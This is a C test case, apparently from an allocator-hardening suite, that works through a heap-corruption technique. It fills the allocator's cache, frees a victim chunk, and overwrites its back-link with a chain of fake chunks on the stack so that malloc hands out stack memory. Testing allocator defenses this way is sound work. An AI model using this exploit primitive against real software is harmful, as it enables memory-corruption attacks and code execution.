// expect: quiet
// SPDX-License-Identifier: MIT
// Point a freed middle-sized block's links at a forged list on the stack.

#include "../common/attack.h"

void crime(void)
{
    enum { CACHE = 7, FORGED = 10 };
    uintptr_t forged[FORGED][4] __attribute__((aligned(16))) = {{0}};
    void *fill[CACHE];
    for (int i = 0; i < CACHE; i++)
        fill[i] = malloc(0x100);
    uintptr_t *victim = malloc(0x100);
    malloc(1000);
    for (int i = 0; i + 1 < FORGED; i++)
        forged[i][3] = (uintptr_t)forged[i + 1];
    forged[0][2] = (uintptr_t)(victim - 2);
    for (int i = 0; i < CACHE; i++)
        free(fill[i]);
    free(victim);
    malloc(1200);
    victim[1] = (uintptr_t)forged;
    for (int i = 0; i < 50; i++)
        claim_malloc(0x100, forged, sizeof(forged));
}
